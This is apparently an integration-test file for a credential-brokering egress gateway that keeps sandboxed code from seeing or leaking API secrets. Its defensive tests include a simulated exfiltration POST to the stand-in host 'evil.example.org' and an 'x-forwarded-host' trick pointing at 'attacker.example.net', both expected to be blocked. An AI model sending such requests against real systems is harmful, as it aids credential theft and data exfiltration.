import { CloseCode, DEFAULT_WINDOW } from '@airlock/schema/tunnel';
import { describe, expect, inject, it } from 'vitest';
import { RECEIVE_BUFFER } from './stream.ts';
import { auditRows, createConnection, route, startSession } from './test-support/fixtures.ts';
import { httpMeta } from './test-support/sandbox-peer.ts';

// Egress through the gateway, driven by a scripted sandbox over the real edge
// route and tunnel, against loopback upstreams (HTTP, and HTTPS with a
// certificate from the test CA that workerd trusts), with audit rows read
// back from Postgres.

const { upstreamHttp, upstreamHttps } = inject('standIns');

async function recorded(base: string, tag: string) {
  const response = await fetch(`${base}/__requests/${encodeURIComponent(tag)}`);
  return (await response.json()) as {
    method: string;
    url: string;
    headers: Record<string, string>;
    bodyBytes: number;
    secure: boolean;
  }[];
}

const tag = () => `t-${crypto.randomUUID()}`;

describe('brokered egress', () => {
  it('injects the credential upstream (HTTP and HTTPS) and never lets the sandbox see it', async () => {
    const secret = `sk-live-${crypto.randomUUID()}`;
    const { world, peer, stub } = await startSession(async (w) => {
      const connectionId = await createConnection(w.orgId, 'openai', { api_key: secret });
      return [
        route({
          match: { hosts: ['api.example.com'], pathPrefixes: [], methods: [] },
          upstream: { baseUrl: upstreamHttp },
          credential: { source: 'secret', connectionId, field: 'api_key' },
        }),
        route({
          match: { hosts: ['secure.example.com'], pathPrefixes: [], methods: [] },
          upstream: { baseUrl: upstreamHttps },
          credential: { source: 'secret', connectionId, field: 'api_key' },
        }),
      ];
    });
    for (const [authority, base] of [
      ['api.example.com', upstreamHttp],
      ['secure.example.com', upstreamHttps],
    ] as const) {
      const t = tag();
      const response = await peer.request({
        method: 'GET',
        authority,
        path: '/echo-credential?x=1',
        headers: [
          ['x-test-tag', t],
          ['authorization', 'Bearer airlock-brokered'],
          ['cookie', 'sid=sandbox'],
        ],
      });
      expect(response.status).toBe(200);
      expect(response.text).toBe('echoed');
      // The hostile upstream echoed the credential in a header: the gateway dropped it.
      expect(response.header('x-echo')).toBeUndefined();
      expect(JSON.stringify(response.headers)).not.toContain(secret);
      const [seen] = await recorded(base, t);
      expect(seen?.headers.authorization).toBe(`Bearer ${secret}`);
      expect(seen?.headers.cookie).toBeUndefined();
      expect(seen?.secure).toBe(base === upstreamHttps);
      expect(seen?.url).toBe('/echo-credential?x=1');
    }
    for (const stream of peer.streams.values()) {
      const bytes = new TextDecoder().decode(new Uint8Array(stream.chunks.flatMap((c) => [...c])));
      expect(bytes).not.toContain(secret);
      expect(JSON.stringify(stream.head)).not.toContain(secret);
    }
    await stub.flushAudit();
    const rows = await auditRows(world.sessionId);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      orgId: world.orgId,
      actorUserId: world.userId,
      decision: 'brokered',
      method: 'GET',
      host: 'api.example.com',
      path: '/echo-credential',
      status: 200,
    });
    expect(JSON.stringify(rows)).not.toContain(secret);
  });

  it('pins the upstream: a Host header or authority trick cannot redirect the credential', async () => {
    const secret = `sk-pin-${crypto.randomUUID()}`;
    const { peer } = await startSession(async (w) => {
      const connectionId = await createConnection(w.orgId, 'openai', { api_key: secret });
      return [
        route({
          upstream: { baseUrl: upstreamHttp },
          credential: { source: 'secret', connectionId, field: 'api_key' },
        }),
      ];
    });
    const t = tag();
    const response = await peer.request({
      method: 'GET',
      authority: 'api.example.com',
      path: '/ok',
      headers: [
        ['x-test-tag', t],
        ['x-forwarded-host', 'attacker.example.net'],
      ],
    });
    expect(response.status).toBe(200);
    const [seen] = await recorded(upstreamHttp, t);
    expect(seen?.headers.host).toBe(new URL(upstreamHttp).host);
    expect(seen?.headers['x-forwarded-host']).toBeUndefined();
    // An authority that is not brokered gets nothing: the credential never leaves for it.
    const denied = await peer.request({ method: 'GET', authority: 'attacker.example.net', path: '/ok' });
    expect(denied.status).toBe(403);
  });

  it('places credentials as a header, basic auth or a query parameter', async () => {
    const { peer } = await startSession(async (w) => {
      const connectionId = await createConnection(w.orgId, 'http_api_key', {
        api_key: 'k-123456789',
        token: 'tok-987654321',
      });
      const credential = (field: string) => ({ source: 'secret' as const, connectionId, field });
      return [
        route({
          match: { hosts: ['h.example.com'], pathPrefixes: [], methods: [] },
          upstream: { baseUrl: upstreamHttp },
          inject: { kind: 'header', target: 'x-api-key' },
          credential: credential('api_key'),
        }),
        route({
          match: { hosts: ['b.example.com'], pathPrefixes: [], methods: [] },
          upstream: { baseUrl: upstreamHttp },
          inject: { kind: 'basic', target: 'authorization', username: 'x-access-token' },
          credential: credential('token'),
        }),
        route({
          match: { hosts: ['q.example.com'], pathPrefixes: [], methods: [] },
          upstream: { baseUrl: upstreamHttp },
          inject: { kind: 'query', target: 'key' },
          credential: credential('api_key'),
        }),
      ];
    });
    const tags = [tag(), tag(), tag()] as const;
    await peer.request({
      method: 'GET',
      authority: 'h.example.com',
      path: '/ok',
      headers: [
        ['x-test-tag', tags[0]],
        ['x-api-key', 'airlock-brokered'],
      ],
    });
    await peer.request({
      method: 'GET',
      authority: 'b.example.com',
      path: '/ok',
      headers: [['x-test-tag', tags[1]]],
    });
    await peer.request({
      method: 'GET',
      authority: 'q.example.com',
      path: '/ok?key=sandbox&page=2',
      headers: [['x-test-tag', tags[2]]],
    });
    expect((await recorded(upstreamHttp, tags[0]))[0]?.headers['x-api-key']).toBe('k-123456789');
    expect((await recorded(upstreamHttp, tags[1]))[0]?.headers.authorization).toBe(
      `Basic ${btoa('x-access-token:tok-987654321')}`,
    );
    expect((await recorded(upstreamHttp, tags[2]))[0]?.url).toBe('/ok?page=2&key=k-123456789');
  });

  it('answers 502 with the reason when the credential cannot be resolved', async () => {
    const { peer } = await startSession(async (w) => {
      const connectionId = await createConnection(w.orgId, 'openai', { other: 'x-xxxxxxxx' });
      return [
        route({
          upstream: { baseUrl: upstreamHttp },
          credential: { source: 'secret', connectionId, field: 'api_key' },
        }),
      ];
    });
    const response = await peer.request({ method: 'GET', authority: 'api.example.com', path: '/ok' });
    expect(response.status).toBe(502);
    expect(response.text).toContain('CREDENTIAL_INVALID');
  });
});

describe('deny by default', () => {
  it('answers 403 naming the setting that would allow it, and audits the denial', async () => {
    const { world, peer, stub } = await startSession(async (w) => {
      const connectionId = await createConnection(w.orgId, 'openai', { api_key: 'sk-xxxxxxxxxxxx' });
      return [
        route({
          match: { hosts: ['api.example.com'], pathPrefixes: ['/v1'], methods: ['GET'] },
          upstream: { baseUrl: upstreamHttp },
          credential: { source: 'secret', connectionId, field: 'api_key' },
        }),
      ];
    });
    const unknown = await peer.request({
      method: 'POST',
      authority: 'evil.example.org',
      path: '/exfil?secret=1',
      body: new TextEncoder().encode('data'),
    });
    expect(unknown.status).toBe(403);
    expect(unknown.header('x-airlock-decision')).toBe('denied');
    expect(unknown.text).toContain("add evil.example.org to the profile's egress allowlist");
    expect(unknown.text).toContain('bind a connection');
    const wrongPath = await peer.request({ method: 'GET', authority: 'api.example.com', path: '/admin' });
    expect(wrongPath.status).toBe(403);
    expect(wrongPath.text).toContain('paths /v1 with methods GET');
    const wrongMethod = await peer.request({ method: 'DELETE', authority: 'api.example.com', path: '/v1/x' });
    expect(wrongMethod.status).toBe(403);
    await stub.flushAudit();
    const rows = await auditRows(world.sessionId);
    // Denials are one row per host and window, with the count (ADR 0115; bounds.test.ts).
    expect(rows.map((r) => [r.decision, r.host, r.path, r.status, r.count])).toEqual([
      ['denied', 'evil.example.org', '/exfil', 403, 1],
      ['denied', 'api.example.com', '/admin', 403, 2],
    ]);
    expect(rows[0]?.actorUserId).toBe(world.userId);
  });

  it('forwards allowlisted hosts without credentials (passthrough) and audits them', async () => {
    const port = new URL(upstreamHttp).port;
    const { world, peer, stub } = await startSession(() => [], { passthrough: [`127.0.0.1:${port}`] });
    const t = tag();
    const response = await peer.request({
      method: 'GET',
      scheme: 'http',
      authority: `127.0.0.1:${port}`,
      path: '/ok',
      headers: [['x-test-tag', t]],
    });
    expect(response.status).toBe(200);
    expect((await recorded(upstreamHttp, t))[0]?.headers.authorization).toBeUndefined();
    await stub.flushAudit();
    expect((await auditRows(world.sessionId)).map((r) => r.decision)).toEqual(['passthrough']);
  });
});

describe('streaming', () => {
  it('streams a large download and upload within the tunnel credits, byte for byte', async () => {
    const { peer, world, stub } = await startSession(async (w) => {
      const connectionId = await createConnection(w.orgId, 'openai', { api_key: 'sk-stream-xxxxxx' });
      return [
        route({
          upstream: { baseUrl: upstreamHttp },
          credential: { source: 'secret', connectionId, field: 'api_key' },
        }),
      ];
    });
    const size = 8 * 1024 * 1024 + 123;
    const download = await peer.request({
      method: 'GET',
      authority: 'api.example.com',
      path: `/bytes/${size}`,
    });
    expect(download.status).toBe(200);
    expect(download.body.length).toBe(size);
    const pattern = new TextEncoder().encode('0123456789abcdefghijklmnopqrstuvwxyz\n');
    for (const i of [0, 1, 65_535, 65_536, size - 1])
      expect(download.body[i]).toBe(pattern[i % pattern.length]);
    const upload = crypto.getRandomValues(new Uint8Array(65_536)).slice();
    const big = new Uint8Array(3 * 1024 * 1024);
    for (let i = 0; i < big.length; i += upload.length)
      big.set(upload.subarray(0, Math.min(upload.length, big.length - i)), i);
    const response = await peer.request({
      method: 'POST',
      authority: 'api.example.com',
      path: '/upload',
      headers: [['content-length', String(big.length)]],
      body: big,
    });
    const digest = [...new Uint8Array(await crypto.subtle.digest('SHA-256', big))]
      .map((b) => b.toString(16).padStart(2, '0'))
      .join('');
    expect(JSON.parse(response.text)).toEqual({ bytes: big.length, sha256: digest });
    await stub.flushAudit();
    const rows = await auditRows(world.sessionId);
    expect(rows.map((r) => [r.bytesIn, r.bytesOut])).toEqual([
      [size, 0],
      [response.body.length, big.length],
    ]);
  });

  it('fills the receive buffer a sandbox grants ahead, and no more while it stalls', async () => {
    const host = new URL(upstreamHttp).host;
    const { peer } = await startSession(() => [], { passthrough: [host] });
    peer.grantAhead = RECEIVE_BUFFER - DEFAULT_WINDOW;
    const size = 6 * 1024 * 1024 + 7;
    const meta = httpMeta({ method: 'GET', scheme: 'http', authority: host, path: `/bytes/${size}` });
    const id = await peer.open('http', meta);
    peer.stall(id, true);
    const stream = peer.streams.get(id);
    if (stream === undefined) throw new Error('no stream');
    // The gateway sends frames of at least 16 KiB (no silly windows): it stops just short.
    const nearlyFull = RECEIVE_BUFFER - 16 * 1024;
    await peer.until('the receive buffer to fill', () => stream.received > nearlyFull);

    // Another exchange on the same tunnel completes while the download is stalled.
    const other = await peer.request({ method: 'GET', scheme: 'http', authority: host, path: '/ok' });
    expect(other.text).toBe('ok');
    expect(stream.received).toBeGreaterThan(nearlyFull);
    expect(stream.received).toBeLessThanOrEqual(RECEIVE_BUFFER);
    expect(stream.overrun).toBe(false);
    peer.stall(id, false);
    const download = await peer.response(id);
    expect(stream.overrun).toBe(false);
    expect(download.body.length).toBe(size);
    const pattern = new TextEncoder().encode('0123456789abcdefghijklmnopqrstuvwxyz\n');
    let mismatches = 0;
    for (let i = 0; i < size; i++) if (download.body[i] !== pattern[i % pattern.length]) mismatches++;
    expect(mismatches).toBe(0);
  });

  it('resets a stream whose outstanding credit would pass 2^32 - 1', async () => {
    const host = new URL(upstreamHttp).host;
    const { peer } = await startSession(() => [], { passthrough: [host] });
    const meta = httpMeta({ method: 'GET', scheme: 'http', authority: host, path: `/bytes/${8 << 20}` });
    const id = await peer.open('http', meta);
    peer.stall(id, true);
    await peer.until('the window to fill', () => (peer.streams.get(id)?.received ?? 0) > 0);
    // One grant of 2^32 - 1 is legal exactly when the window is already used up
    // (a race with the stalled stream filling it); a second one passes the
    // limit whatever the first left, with at most 8 MiB sent in between.
    peer.send({ type: 'window', stream: id, flags: 0, credit: 0xffff_ffff });
    peer.send({ type: 'window', stream: id, flags: 0, credit: 0xffff_ffff });
    await peer.until('a reset', () => peer.streams.get(id)?.reset != null);
    expect(peer.streams.get(id)?.reset?.code).toBe(CloseCode.FLOW_CONTROL);
  });

  it('passes compressed bodies through untouched', async () => {
    const { peer } = await startSession(() => [], { passthrough: [new URL(upstreamHttps).host] });
    const response = await peer.request({
      method: 'GET',
      authority: new URL(upstreamHttps).host,
      path: '/gzip',
    });
    expect(response.status).toBe(200);
    expect(response.header('content-encoding')).toBe('gzip');
    expect(Number(response.header('content-length'))).toBe(response.body.length);
    expect([response.body[0], response.body[1]]).toEqual([0x1f, 0x8b]);
  });

  it('returns redirects to the sandbox instead of following them', async () => {
    const { peer } = await startSession(() => [], { passthrough: [new URL(upstreamHttp).host] });
    const response = await peer.request({
      method: 'GET',
      scheme: 'http',
      authority: new URL(upstreamHttp).host,
      path: '/redirect',
    });
    expect(response.status).toBe(302);
    expect(response.header('location')).toBe('https://elsewhere.invalid/landing');
  });
});
